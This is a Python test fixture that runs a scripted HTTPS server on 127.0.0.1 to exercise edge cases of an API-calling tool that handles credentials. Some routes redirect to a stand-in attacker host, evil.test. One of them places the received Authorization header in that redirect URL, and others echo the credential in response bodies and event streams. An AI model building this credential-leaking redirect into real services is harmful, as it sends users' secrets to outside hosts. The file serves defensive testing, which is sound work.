"""A real HTTPS API on 127.0.0.1 whose answers are chosen by path, for call_service's edge cases.

``/echo`` echoes the request (headers in the body, as a careless API would); ``/status/N``
answers N; ``/big/N`` sends N bytes of text; ``/binary`` an image; ``/redirect/same`` and
``/redirect/away`` redirect; ``/headers`` sends headers the model must not see; ``/slow``
answers after two seconds; ``/reflect-location`` puts the credential it received in Location;
``/html502`` is a provider's own 502 page; ``/cut`` breaks off its body; ``/sse`` streams three
events quoting the credential; ``/reflect-big/N`` quotes it at the start of N bytes.
"""

from __future__ import annotations

import json
import time
from dataclasses import dataclass, field
from http.server import ThreadingHTTPServer

import trustme

from demo.echo_upstream import LoopbackHandler, serve_https

PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4


@dataclass
class Seen:
    method: str
    path: str
    headers: list[tuple[str, str]]
    body: bytes


@dataclass
class ScriptedUpstream:
    server: ThreadingHTTPServer
    received: list[Seen] = field(default_factory=list)

    @property
    def port(self) -> int:
        return self.server.server_address[1]

    def url(self, path: str) -> str:
        return f"https://127.0.0.1:{self.port}{path}"

    @classmethod
    def start(cls, ca: trustme.CA, hostnames: tuple[str, ...] = ()) -> ScriptedUpstream:
        received: list[Seen] = []

        class Handler(LoopbackHandler):
            def _handle(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                seen = Seen(self.command, self.path, list(self.headers.items()), body)
                received.append(seen)
                path = self.path.split("?", 1)[0]
                if path.startswith("/status/"):
                    self._send(int(path.rsplit("/", 1)[1]), b'{"status": "as asked"}', "application/json")
                elif path.startswith("/big/"):
                    self._send(200, b"a" * int(path.rsplit("/", 1)[1]), "text/plain")
                elif path == "/binary":
                    self._send(200, PNG, "image/png")
                elif path == "/redirect/same":
                    self._send(302, b"", "text/plain", [("Location", "/echo?after=redirect")])
                elif path == "/redirect/away":
                    self._send(302, b"", "text/plain", [("Location", "https://evil.test/collect?x=1")])
                elif path == "/reflect-location":
                    auth = self.headers.get("Authorization", "")
                    self._send(302, b"", "text/plain", [("Location", f"https://evil.test/?k={auth}")])
                elif path == "/headers":
                    reset = str(int(time.time()) + 30)
                    extra = [("Set-Cookie", "session=abc"), ("X-Request-Id", "req-1"), ("Server", "scripted"),
                             ("X-Ratelimit-Remaining", "41"), ("X-Ratelimit-Limit", "60"),
                             ("X-Ratelimit-Reset", reset), ("X-Internal-Debug", "not for the model")]  # fmt: skip
                    self._send(200, b'{"ok": true}', "application/json", extra)
                elif path == "/html502":  # a provider's own failure page: an answer, not a clavis failure
                    self._send(502, b"<html><body><h1>502 Bad Gateway</h1></body></html>", "text/html")
                elif path == "/cut":  # promises 1000 bytes, sends 10, closes
                    self.send_response(200)
                    self.send_header("Content-Type", "text/plain")
                    self.send_header("Content-Length", "1000")
                    self.end_headers()
                    self.wfile.write(b"0123456789")
                    self.wfile.flush()
                    self.close_connection = True
                elif path == "/sse":  # three events, each quoting the credential it received
                    auth = self.headers.get("Authorization", "")
                    self.send_response(200)
                    self.send_header("Content-Type", "text/event-stream")
                    self.end_headers()
                    for n in range(3):
                        self.wfile.write(f"data: event {n} saw {auth}\n\n".encode())
                        self.wfile.flush()
                    self.close_connection = True
                elif path.startswith("/reflect-big/"):  # N bytes of text quoting the credential once, first
                    auth = self.headers.get("Authorization", "").encode()
                    size = int(path.rsplit("/", 1)[1])
                    self._send(200, auth + b" " + b"b" * (size - len(auth) - 1), "text/plain")
                elif path == "/slow":
                    time.sleep(2)
                    self._send(200, b"late", "text/plain")
                else:
                    payload = {"method": seen.method, "path": seen.path, "headers": dict(seen.headers),
                               "body": body.decode("utf-8", "replace")}  # fmt: skip
                    self._send(200, json.dumps(payload).encode(), "application/json")

            def _send(self, status: int, body: bytes, content_type: str, extra: list[tuple[str, str]] = ()) -> None:  # type: ignore[assignment]
                self.send_response(status)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                for name, value in extra:
                    self.send_header(name, value)
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)

            do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_HEAD = do_OPTIONS = _handle

        server, _ = serve_https(ca, Handler, ("127.0.0.1", "localhost", *hostnames))
        return cls(server, received)

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()
